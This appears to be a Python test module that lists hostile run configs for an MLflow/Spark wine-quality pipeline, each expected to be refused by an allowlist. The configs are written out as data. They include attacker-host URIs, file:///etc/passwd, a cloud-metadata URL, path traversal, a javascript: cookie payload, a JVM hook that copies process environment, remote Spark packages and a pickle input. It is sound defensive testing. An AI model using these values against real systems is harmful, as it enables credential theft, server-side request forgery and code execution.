"""The attacks by run config: what is tried, and the words of the sentence that refuses it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from wine_quality_tests.attacks.listeners import HttpListener, PostgresListener

DEFAULT = ("3",)
EVERY = ("1.26", "2.1.1", "3")
MODEL = "wine_quality_model"


@dataclass(frozen=True)
class World:
    """Folders and addresses that an attacker has.

    Attributes:
        loot: An empty folder that the platform's processes could write to.
        kept: A folder with a file that must stay.
        delivered: A folder that runs may read, with good files and bad ones.
        mlflow: host:port of a server that the platform uses.
        host: The attacker's machine as the platform sees it.
    """

    http: HttpListener
    postgres: PostgresListener
    loot: Path
    kept: Path
    delivered: Path
    mlflow: str
    host: str = "127.0.0.1"


@dataclass(frozen=True)
class Attack:
    """One run with a hostile config.

    Attributes:
        name: For the table of results.
        config: Run config; the version is added to it.
        refused: A regular expression that the reason must match; None: the run may succeed, as
            long as nothing leaves.
        assets: To materialize; empty: the job.
        job: What is launched when there are no assets.
        ops: The only ones of the job that are launched, as `solidSelection`; empty: all.
        versions: Of MLflow for which it differs.
        is_quick: Part of `make test`.
    """

    name: str
    config: Callable[[World], dict[str, Any]]
    refused: str | None
    assets: tuple[str, ...] = ()
    job: str = MODEL
    ops: tuple[str, ...] = ()
    versions: tuple[str, ...] = DEFAULT
    is_quick: bool = False


def resource(name: str, **config: Any) -> dict[str, Any]:
    return {"resources": {name: {"config": config}}}


def source(csv_url: str) -> dict[str, Any]:
    return {"ops": {"raw_wine_csv": {"config": {"csv_url": csv_url}}}}


def deployment(**config: Any) -> dict[str, Any]:
    return {"ops": {"model_deployment": {"config": config}}}


def on_spark(world: World, **options: Any) -> dict[str, Any]:
    return resource("training_engine", engine="spark", **options)


DEPLOYMENT = ("model_deployment",)
PICKLE = "picked.csv"
EXTRA_JAVA = "spark.driver.extraJavaOptions"

ATTACKS = [
    Attack(
        "tracking_uri: another server",
        lambda w: resource("mlflow", tracking_uri=f"http://{w.host}:{w.http.port}"),
        "WINE_QUALITY_ALLOWED_TRACKING_URIS",
        versions=EVERY,
        is_quick=True,
    ),
    Attack(
        "tracking_uri: two hosts to two parsers (\\@)",
        lambda w: resource("mlflow", tracking_uri=f"http://{w.host}:{w.http.port}\\@{w.mlflow}"),
        "tracking_uri|WINE_QUALITY_ALLOWED_TRACKING_URIS",
        versions=EVERY,
        is_quick=True,
    ),
    Attack(
        "tracking_uri: two @",
        lambda w: resource("mlflow", tracking_uri=f"http://a@{w.host}:{w.http.port}@{w.mlflow}"),
        "tracking_uri|WINE_QUALITY_ALLOWED_TRACKING_URIS",
    ),
    Attack(
        "registry_uri: another server",
        lambda w: resource("mlflow", registry_uri=f"http://{w.host}:{w.http.port}"),
        "WINE_QUALITY_ALLOWED_TRACKING_URIS",
        versions=EVERY,
        is_quick=True,
    ),
    Attack(
        "registry_uri: two hosts to two parsers (\\@)",
        lambda w: resource("mlflow", registry_uri=f"http://{w.host}:{w.http.port}\\@{w.mlflow}"),
        "registry_uri|WINE_QUALITY_ALLOWED_TRACKING_URIS",
    ),
    Attack(
        "{env: …}: a password as the name of an experiment",
        lambda w: resource("mlflow", experiment_name={"env": "WINE_QUALITY_ASSETS_SECRET"}),
        "WINE_QUALITY_ALLOWED_CONFIG_VARIABLES",
        is_quick=True,
    ),
    Attack(
        "{env: …}: the signing key",
        lambda w: resource("mlflow", experiment_name={"env": "WINE_QUALITY_SIGNING_KEY"}),
        "WINE_QUALITY_ALLOWED_CONFIG_VARIABLES",
    ),
    Attack(
        "csv_url: a file that is not for it",
        lambda w: source("file:///etc/passwd"),
        "WINE_QUALITY_ALLOWED_ROOTS",
    ),
    Attack(
        "csv_url: a link out of an allowed folder",
        lambda w: source(f"file://{w.delivered}/linked.csv"),
        "WINE_QUALITY_ALLOWED_ROOTS",
    ),
    Attack(
        "csv_url: this machine",
        lambda w: source(f"http://{w.host}:{w.http.port}/wines.csv"),
        "WINE_QUALITY_ALLOWED_(SCHEMES|NETWORKS)",
        is_quick=True,
    ),
    Attack(
        "csv_url: the metadata of a cloud",
        lambda w: source("https://192.0.0.192/opc/v2/instance"),
        "WINE_QUALITY_ALLOWED_NETWORKS",
    ),
    Attack(
        "local_server: what it says is shown",
        lambda w: deployment(
            target="local", local_server=f"http://{w.host}:{w.http.port}", timeout_seconds=1
        ),
        "did not answer within|WINE_QUALITY_ALLOWED_ENDPOINTS",
        assets=DEPLOYMENT,
    ),
    Attack(
        "endpoint: another host of the network",
        lambda w: deployment(endpoint=f"http://127.0.0.2:{w.http.port}"),
        "WINE_QUALITY_ALLOWED_ENDPOINTS",
        assets=DEPLOYMENT,
    ),
    Attack(
        "image: the attacker's, with the cluster's secrets",
        lambda w: deployment(manifests={"image": "evil.example/image:1"}),
        "WINE_QUALITY_ALLOWED_IMAGES",
        assets=DEPLOYMENT,
    ),
    Attack(
        "base_path of deployments: a folder that is not for it",
        lambda w: deployment(base_path=str(w.kept)),
        "WINE_QUALITY_ALLOWED_OUTPUTS",
        assets=DEPLOYMENT,
    ),
    Attack(
        "base_path of values: by a protocol of fsspec's",
        lambda w: resource("io_manager", base_path=f"reference://{w.loot}/refs.json"),
        "io_manager.config.base_path is .* must be a folder or s3://",
    ),
    Attack(
        "base_path of the history: a web server",
        lambda w: resource("wine_history", base_path=f"http://{w.host}:{w.http.port}/history"),
        "wine_history.config.base_path is .* must be a folder or s3://",
    ),
    Attack(
        "metrics_history.url: another host gets the password",
        lambda w: resource(
            "metrics_history", url=f"postgresql+psycopg2://metrics@{w.host}:{w.postgres.port}/x"
        ),
        "WINE_QUALITY_ALLOWED_METRICS_URLS",
        is_quick=True,
    ),
    Attack(
        "metrics_history.url: parameters of libpq",
        lambda w: resource(
            "metrics_history",
            url=f"postgresql://{w.host}/metrics?host={w.host}&port={w.postgres.port}",
        ),
        "WINE_QUALITY_ALLOWED_METRICS_URLS",
    ),
    Attack(
        "registered_model_name: a folder elsewhere is removed",
        lambda w: {
            **deployment(version="1"),
            **resource("mlflow", registered_model_name=f"{'../' * 12}{w.kept}"),
        },
        "registered_model_name",
        assets=DEPLOYMENT,
        versions=EVERY,
        is_quick=True,
    ),
    Attack(
        "experiment_name: a folder elsewhere",
        lambda w: resource("mlflow", experiment_name=f"../../..{w.loot}"),
        "experiment_name",
    ),
    Attack(
        "version: a path",
        lambda w: deployment(version="../../1"),
        "version",
        assets=DEPLOYMENT,
    ),
    Attack(
        "ui_url: a script in the browser of whoever clicks",
        lambda w: resource("mlflow", ui_url="javascript:alert(document.cookie)//"),
        "ui_url",
    ),
    Attack(
        "spark_options: a command when memory ends",
        lambda w: on_spark(
            w,
            spark_options={
                EXTRA_JAVA: f"-Xmx8m -XX:OnOutOfMemoryError='cp /proc/self/environ {w.loot}'"
            },
        ),
        "WINE_QUALITY_ALLOWED_SPARK_OPTIONS",
        is_quick=True,
    ),
    Attack(
        "spark_options: the log of the JVM, anywhere",
        lambda w: on_spark(w, spark_options={EXTRA_JAVA: f"-Xlog:gc:file={w.loot}/gc"}),
        "WINE_QUALITY_ALLOWED_SPARK_OPTIONS",
    ),
    Attack(
        "spark_options: foreign packages",
        lambda w: on_spark(
            w,
            spark_options={
                "spark.jars.packages": "evil:evil:1",
                "spark.jars.repositories": f"http://{w.host}:{w.http.port}",
            },
        ),
        "WINE_QUALITY_ALLOWED_SPARK_OPTIONS",
    ),
    Attack(
        "spark_master: the attacker's",
        lambda w: on_spark(w, spark_master=f"spark://{w.host}:{w.http.port}"),
        "WINE_QUALITY_ALLOWED_SPARK_MASTERS",
    ),
    Attack(
        "ops.….inputs: a pickle, by a launch of one op",
        lambda w: {
            "ops": {
                "sweep_points": {
                    "inputs": {"sweep_data": {"pickle": {"path": f"{w.delivered}/{PICKLE}"}}}
                }
            }
        },
        r"ops\.sweep_points\.inputs is in the run config|InvalidSubsetError",
        job="wine_quality_sweep",
        ops=("sweep_points",),
        is_quick=True,
    ),
    Attack(
        "file names that write into logs, and a link among good files",
        lambda w: {
            **resource("training_engine", engine="duckdb"),
            **source(f"file://{w.delivered}/several/*.csv"),
        },
        None,
        is_quick=True,
    ),
]
